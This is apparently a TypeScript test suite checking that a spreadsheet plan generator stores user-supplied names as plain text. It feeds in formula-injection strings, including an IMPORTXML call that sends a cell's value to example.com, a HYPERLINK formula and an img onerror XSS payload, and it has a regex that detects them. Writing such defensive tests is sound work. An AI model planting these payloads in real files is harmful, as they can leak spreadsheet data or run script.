import type { CellValue } from '@cj-tech-master/excelts';
import type { PlanInputs } from '../../src/plan/inputs/planInputs';
import { generate, openWorkbook, requestAsTyped, requestFor, statusOf } from '../faults/scenario';
import { readBack, sheetIn } from '../host/xlsx/readBack';
import { shortYear } from '../support/shortYear';
import { sizedInputs } from '../support/sizedInputs';
import { cellOf, keyedRows, sheetOf } from './support';

const segmentNames = [
  '=IMPORTXML("http://example.com/?"&A1, "//a")',
  '+1',
  '<img src=x onerror=alert(1)>',
  `"quoted" & 'half ${'very long '.repeat(27)}`,
  '3/4',
];
const sourceNames = ['@SUM(1)', 'שלום עולם 🚀', '2027'];
const others = { company: '-1+1', salesLeader: '=HYPERLINK("http://example.com")', marketingLeader: 'TRUE' };

function untrusted(): PlanInputs {
  const plain = sizedInputs(segmentNames.length, sourceNames.length, {
    ...others,
    leadTypes: [{ key: 'odd', name: '=1+1', leadToWinRate: 0.1 }],
  });
  return shortYear({
    ...plain,
    segments: plain.segments.map((segment, i) => ({ ...segment, name: segmentNames[i] ?? '' })),
    sources: plain.sources.map((source, i) => ({ ...source, name: sourceNames[i] ?? '' })),
  });
}

const suspicious = /IMPORTXML|HYPERLINK|onerror|@SUM\(1\)/;

describe('names that look like something else, in Tandem’s own plan', () => {
  const host = openWorkbook(undefined, { entry: 'realEntry' });
  generate(host, requestFor(host, untrusted()));
  const rows = keyedRows(host, 'Inputs');

  test('read back letter by letter, and every check passes', () => {
    expect(statusOf(host)).toMatchObject({ inputs: untrusted(), news: [], overwritten: [] });
    expect(cellOf(host, 'Checks', 'B3').value).toBe('All checks pass');
  });

  test('are texts wherever they stand, and no formula is made of them', () => {
    const cells = host.snapshot().sheets.flatMap((sheet) => sheet.cells.map((cell) => ({ ...cell, tab: sheet.name })));
    expect(cells.filter(({ isError }) => isError).map(({ tab, value }) => `${tab} ${value}`)).toEqual([]);
    expect(cells.filter(({ formula }) => formula !== null && suspicious.test(formula))).toEqual([]);
    const funnel = keyedRows(host, 'Funnel');
    const shown = segmentNames.map((_, i) => host.look('Funnel', `B${funnel[`wins|segment-${i}`]}`).value);
    expect(shown).toEqual(segmentNames);
    // Sources stand beside the segments there, on the same rows.
    const goals = keyedRows(host, 'Goals');
    const listed = sourceNames.map((_, i) => host.look('Goals', `E${goals[`goal-revenue|segment-${i}`]}`).value);
    expect(listed).toEqual(sourceNames);
  });

  test('are joined into the sentence of a check that fails', () => {
    const row = rows['contribution|segment-2'] ?? 0;
    const column = sheetOf(host, 'Inputs').cells.find(
      ({ row: r, value }) => r === 0 && value === 'source:source-0',
    )?.column;
    host.type('Inputs', `${String.fromCharCode(65 + (column ?? 0))}${row}`, '0');
    const state = cellOf(host, 'Checks', `C${keyedRows(host, 'Checks')['check-contributionShares']}`);
    expect(state.value).toBe(`${segmentNames[2]}: contributions on Inputs do not sum to 100%`);
    host.type('Inputs', `${String.fromCharCode(65 + (column ?? 0))}${row}`, '=1/3');
  });

  test('are texts in the xlsx', async () => {
    const sheet = sheetIn(await readBack(host.snapshot()), 'Inputs');
    const held = (key: string): CellValue => sheet.getCell(`D${rows[key]}`).value;
    expect(segmentNames.map((_, i) => held(`segmentName|segment-${i}`))).toEqual(segmentNames);
    expect(sourceNames.map((_, i) => held(`sourceName|source-${i}`))).toEqual(sourceNames);
    expect(['company', 'salesLeader', 'marketingLeader'].map(held)).toEqual(Object.values(others));
    const formulas: string[] = [];
    for (const each of (await readBack(host.snapshot())).worksheets) {
      each.eachRow((row) => row.eachCell((cell) => void (cell.formula && formulas.push(cell.formula))));
    }
    expect(formulas.length).toBeGreaterThan(500);
    expect(formulas.filter((formula) => suspicious.test(formula))).toEqual([]);
  });

  test('typed on Inputs are texts behind an apostrophe; a number or a date is refused', () => {
    const entry = `D${rows['#add-segment']}`;
    const says = 'A name must be a text: type an apostrophe before what looks like a number or a date';
    for (const typed of ['3/5', '2028', 'TRUE']) expect(() => host.type('Inputs', entry, typed)).toThrow(says);
    host.type('Inputs', entry, "'3/5");
    expect(statusOf(host).news).toEqual(['Segment 3/5 was added with the figures of 3/4 and a share of 0%.']);
    generate(host, requestAsTyped(host));
    expect(cellOf(host, 'Inputs', entry)).toMatchObject({ value: '3/5', formula: null });
    expect(statusOf(host).inputs?.segments[5]).toMatchObject({ key: '3-5', name: '3/5' });
  });
});
